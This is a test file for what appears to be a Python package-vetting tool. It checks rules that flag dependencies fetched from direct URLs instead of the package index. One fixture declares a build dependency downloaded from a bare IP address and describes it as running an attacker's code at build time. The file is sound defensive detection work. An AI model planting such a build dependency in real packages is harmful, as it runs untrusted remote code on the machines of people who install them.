"""Dependencies fetched from an address written into the package, not from the index."""

from __future__ import annotations

from rulekit import package, py, run, text

from pipvet.analysis.context import FileKind
from pipvet.analysis.rules.dependencies import RULES
from pipvet.models import Severity, Stage

SDIST = package(prefix="demo-1.0/")


def _pyproject(body: str) -> list[tuple[Severity, Stage | None]]:
    file = text(body, path="demo-1.0/pyproject.toml", kind=FileKind.TEXT, stage=Stage.INSTALL)
    return [(f.severity, f.stage) for f in run(RULES, file, SDIST)]


def test_a_build_dependency_from_a_bare_ip_runs_an_attackers_code_at_build_time() -> None:
    body = (
        '[build-system]\nrequires = ["setuptools>=61", "helper @ http://203.0.113.9/helper-1.0.tar.gz"]\n'
        'build-backend = "setuptools.build_meta"\n[project]\nname = "demo"\n'
    )
    assert _pyproject(body) == [(Severity.CRITICAL, Stage.INSTALL)]
    named = body.replace("http://203.0.113.9", "https://files.example")
    assert _pyproject(named) == [(Severity.HIGH, Stage.INSTALL)]


def test_a_runtime_dependency_from_an_address_is_medium_and_plain_http_high() -> None:
    body = (
        '[project]\nname = "demo"\ndependencies = ["colorama", "term @ git+https://code.example/term.git"]\n'
    )
    assert _pyproject(body) == [(Severity.MEDIUM, Stage.METADATA)]
    wheel = text(
        "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: term @ http://files.example/t.tar.gz\n",
        path="demo-1.0.dist-info/METADATA",
        kind=FileKind.METADATA,
        stage=Stage.METADATA,
    )
    assert [f.severity for f in run(RULES, wheel, package())] == [Severity.HIGH]


def test_setup_requires_counts_as_the_build() -> None:
    setup = py(
        "from setuptools import setup\nsetup(name='demo',\n"
        "      setup_requires=['helper @ https://files.example/helper.tar.gz'],\n"
        "      install_requires=['requests'])\n",
        path="demo-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    assert [f.severity for f in run(RULES, setup, SDIST)] == [Severity.HIGH]


def test_index_requirements_docs_and_addresses_are_no_direct_reference() -> None:
    plain = '[project]\nname = "demo"\ndependencies = ["requests>=2", "attrs @ file:///"]\n'
    assert len(_pyproject(plain)) == 1  # a local path is still an address outside the index
    assert _pyproject('[project]\nname = "demo"\ndependencies = ["requests>=2"]\n') == []
    # a maintainer's e-mail address, and a URL in a docs file, are no requirement
    meta = text(
        "Metadata-Version: 2.1\nName: demo\nAuthor-email: Dev <dev@files.example>\n"
        "Project-URL: Home, https://files.example/demo\n",
        path="demo-1.0/PKG-INFO",
        kind=FileKind.METADATA,
        stage=Stage.METADATA,
    )
    assert run(RULES, meta, SDIST) == []
    docs = text(
        "Install with pip install 'demo @ https://files.example/demo.tar.gz'\n",
        path="demo-1.0/README.md",
        kind=FileKind.TEXT,
        stage=Stage.DATA,
    )
    assert run(RULES, docs, SDIST) == []


def test_examples_in_the_description_and_tool_environments_declare_nothing() -> None:
    """tomli's README (its METADATA body) shows 'tomli @ file:///home/foo/dev/tomli'; soupsieve's
    docs environment installs a theme from git: neither is what installing the package fetches."""
    meta = text(
        "Metadata-Version: 2.1\nName: demo\nRequires-Dist: attrs\n\n"
        "Install a checkout with `pip install 'demo @ file:///home/foo/dev/demo'`.\n",
        path="demo-1.0.dist-info/METADATA",
        kind=FileKind.METADATA,
        stage=Stage.METADATA,
    )
    assert run(RULES, meta, package()) == []
    tools = (
        '[project]\nname = "demo"\ndependencies = ["attrs"]\n'
        '[tool.hatch.envs.docs]\ndependencies = ["theme @ git+https://code.example/theme.git"]\n'
        '[dependency-groups]\ndev = ["lint @ git+https://code.example/lint.git"]\n'
    )
    assert _pyproject(tools) == []
    extras = '[project.optional-dependencies]\ndocs = ["theme @ git+https://code.example/theme.git"]\n'
    assert _pyproject(extras) == [(Severity.MEDIUM, Stage.METADATA)]


def test_prose_in_setup_py_is_no_requirement() -> None:
    """django-rest-swagger's setup.py keeps its README in a string: 'Project @ https://...'."""
    prose = py(
        'README = """\nProject @ https://code.example/demo\nDocs @ https://docs.example/\n"""\n'
        "from setuptools import setup\nsetup(name='demo', install_requires=['attrs'])\n",
        path="demo-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    assert run(RULES, prose, SDIST) == []
    cfg = text(
        "[metadata]\nname = demo\ndescription = Demo @ https://code.example/demo\n"
        "[options]\ninstall_requires =\n    attrs\n    term @ https://files.example/term.tar.gz\n",
        path="demo-1.0/setup.cfg",
        kind=FileKind.TEXT,
        stage=Stage.INSTALL,
    )
    assert [f.severity for f in run(RULES, cfg, SDIST)] == [Severity.MEDIUM]
